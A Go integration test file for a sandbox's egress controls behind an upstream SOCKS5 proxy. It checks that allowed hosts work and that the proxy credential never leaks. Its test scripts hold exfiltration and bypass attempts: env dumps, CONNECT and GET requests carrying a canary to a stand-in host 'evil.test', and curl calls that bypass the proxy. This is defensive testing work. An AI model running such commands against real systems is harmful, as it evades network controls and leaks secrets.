package integration

import (
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"

	"outcall/integration/harness"
)

// A hostSOCKS is the machine's upstream proxy in its other form (RFC 1928,
// RFC 1929). As hostProxy, it may refuse addresses and lead names elsewhere.
type hostSOCKS struct {
	names    map[string]string
	noAddrs  bool
	mu       sync.Mutex
	targets  []string
	logins   []string
	listener net.Listener
}

func newHostSOCKS(t *testing.T) *hostSOCKS {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := &hostSOCKS{listener: ln}
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Go(func() { defer c.Close(); p.serve(c) })
		}
	})
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	return p
}

func (p *hostSOCKS) url() string { return "socks5://user:k16-secret@" + p.listener.Addr().String() }

func (p *hostSOCKS) asked() (targets, logins []string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.targets...), append([]string(nil), p.logins...)
}

// The answers of RFC 1928 section 6.
const (
	socksGranted    = 0
	socksFailed     = 1
	socksNotAllowed = 2
)

func (p *hostSOCKS) serve(c net.Conn) {
	host, port, err := p.handshake(c)
	if err != nil {
		return
	}
	p.mu.Lock()
	p.targets = append(p.targets, net.JoinHostPort(host, port))
	p.mu.Unlock()
	answer := func(code byte) { c.Write([]byte{5, code, 0, 1, 0, 0, 0, 0, 0, 0}) }
	if p.noAddrs && net.ParseIP(host) != nil {
		answer(socksNotAllowed)
		return
	}
	if to := p.names[host]; to != "" {
		host = to
	}
	up, err := net.Dial("tcp", net.JoinHostPort(host, port))
	if err != nil {
		answer(socksFailed)
		return
	}
	defer up.Close()
	answer(socksGranted)
	go func() { io.Copy(up, c); up.(*net.TCPConn).CloseWrite() }()
	io.Copy(c, up)
}

// handshake reads greeting, login and request.
func (p *hostSOCKS) handshake(c net.Conn) (host, port string, err error) {
	field := func(n int) (b []byte) {
		if err == nil {
			b = make([]byte, n)
			_, err = io.ReadFull(c, b)
		}
		return b
	}
	counted := func() string {
		n := field(1)
		if err != nil {
			return ""
		}
		return string(field(int(n[0])))
	}
	field(1)
	if methods := counted(); err != nil || !strings.Contains(methods, "\x02") {
		return "", "", errors.Join(err, errors.New("no login offered"))
	}
	c.Write([]byte{5, 2})
	field(1)
	login := counted() + ":" + counted()
	p.mu.Lock()
	p.logins = append(p.logins, login)
	p.mu.Unlock()
	c.Write([]byte{1, 0})
	head := field(4)
	if err != nil {
		return "", "", err
	}
	switch head[3] {
	case 1, 4:
		a, _ := netip.AddrFromSlice(field(map[byte]int{1: 4, 4: 16}[head[3]]))
		host = a.String()
	case 3:
		host = counted()
	}
	n := field(2)
	if err != nil {
		return "", "", err
	}
	return host, strconv.Itoa(int(binary.BigEndian.Uint16(n))), nil
}

// K16: a SOCKS proxy of the machine is asked for judged addresses where it
// takes them, for judged names where it does not; never by the agent, and
// never for what was not judged.
func TestK16SOCKSOfTheMachine(t *testing.T) {
	b := harness.New(t)
	const name, other = "four.allowed.test", "six.allowed.test"
	var d denials
	defer func() { d.mostNamed(t) }()
	for _, noAddrs := range []bool{false, true} {
		p := newHostSOCKS(t)
		evil := b.V4(t, "evil.test").String()
		p.noAddrs, p.names = noAddrs, map[string]string{name: evil, other: evil, "evil.test": evil}
		own := p.listener.Addr().String()
		k := b.Canary(t)
		script := "env; for n in " + name + " " + other + "; do curl -sS https://$n/; curl -sS --noproxy '*' https://$n/; curl -sS http://$n/; done\n" +
			harness.Probe + " connect 10.200.0.1:8080 'CONNECT " + own + " HTTP/1.1'\n" +
			harness.Probe + " connect 10.200.0.1:8080 'CONNECT evil.test:443 HTTP/1.1'\n" +
			harness.Probe + " connect 10.200.0.1:8080 'CONNECT " + evil + ":443 HTTP/1.1'\n" +
			harness.Probe + ` connect 10.200.0.1:8080 'GET http://evil.test/` + k.Word + ` HTTP/1.1'` + "\n" +
			harness.Probe + " tcp '" + spoken(k.Word) + "' " + evil + ":443 " + own + "\n" +
			"curl -sS --socks5-hostname " + own + " http://evil.test/" + k.Word + "; curl -sS --noproxy '*' --socks5 10.200.0.1:8080 http://evil.test/" + k.Word + "\n"
		r := b.Sandbox(append(harness.Allow(name, other), "--upstream-proxy", p.url()), "sh", "-c", script)
		for _, n := range []string{name, other} {
			if got := strings.Count(r.Stdout, "origin "+n); got != 3 {
				t.Errorf("%d of 3 answers of %s\n%s\n%s", got, n, r.Stdout, r.Stderr)
			}
		}
		k.MustNotArrive(t)
		mustLack(t, "K16: what the agent sees", r.Stdout+r.Stderr, "k16-secret", "socks5://")
		judged := map[string]bool{b.V4(t, name).String(): true, b.V6(t, other).String(): true, name: noAddrs, other: noAddrs}
		targets, logins := p.asked()
		for _, q := range targets {
			if host, _, _ := net.SplitHostPort(q); !judged[host] {
				t.Errorf("refuses addresses: %v; the proxy was asked for %s", noAddrs, q)
			}
		}
		if len(logins) == 0 || logins[0] != "user:k16-secret" {
			t.Errorf("logins %q", logins)
		}
		viaSeen := map[string]bool{}
		for _, e := range b.Events(t, r.Name) {
			viaSeen[e.Via] = true
			mustLack(t, "K16: the audit", e.Line, "k16-secret")
		}
		if viaSeen["by-proxy"] != noAddrs || viaSeen["proxy"] == noAddrs {
			t.Errorf("refuses addresses: %v, the audit says %v", noAddrs, viaSeen)
		}
		for what, match := range map[string]func(harness.Event) bool{
			"CONNECT by name":       func(e harness.Event) bool { return e.Layer == "connect" && e.Host == "evil.test" },
			"CONNECT by address":    func(e harness.Event) bool { return e.Layer == "connect" && e.IP == evil },
			"CONNECT to the proxy":  func(e harness.Event) bool { return e.Layer == "connect" && e.IP == "127.0.0.1" && e.Structural },
			"a request":             func(e harness.Event) bool { return e.Layer == "request" && e.Host == "evil.test" },
			"a connection straight": func(e harness.Event) bool { return e.Layer == "flow" && e.IP == evil },
		} {
			if e := d.one(t, b, r.Name, "/probe", match); e.ID == "" {
				t.Errorf("that was %s", what)
			}
		}
	}
	for _, q := range b.Origins.Requests() {
		if q.Host == "evil.test" {
			t.Errorf("a request for a denied name arrived: %+v", q)
		}
	}
}

// K16: a SOCKS proxy that fails or hangs up lets nothing go another way.
func TestK16SOCKSThatFails(t *testing.T) {
	b := harness.New(t)
	const name = "four.allowed.test"
	for what, serve := range map[string]func(net.Conn){
		"hangs up": func(c net.Conn) {}, "answers garbage": func(c net.Conn) { io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n") },
		"wants another login": func(c net.Conn) { c.Write([]byte{5, 0xff}) },
	} {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				c.Read(make([]byte, 3))
				serve(c)
				c.Close()
			}
		}()
		m := b.Mark()
		script := "curl -sS -f https://" + name + "/; curl -sS -f --noproxy '*' https://" + name + "/; curl -sS -f http://" + name + "/"
		r := b.Sandbox(append(harness.Allow(name), "--upstream-proxy", "socks5://user:k16-secret@"+ln.Addr().String()), "sh", "-c", script)
		if strings.Contains(r.Stdout, "origin ") || strings.Contains(r.Stdout+r.Stderr, "k16-secret") {
			t.Errorf("%s: %s %s", what, r.Stdout, r.Stderr)
		}
		b.MustBeQuiet(t, m, onlyQuestions(b.World))
		ln.Close()
		<-done
	}
}
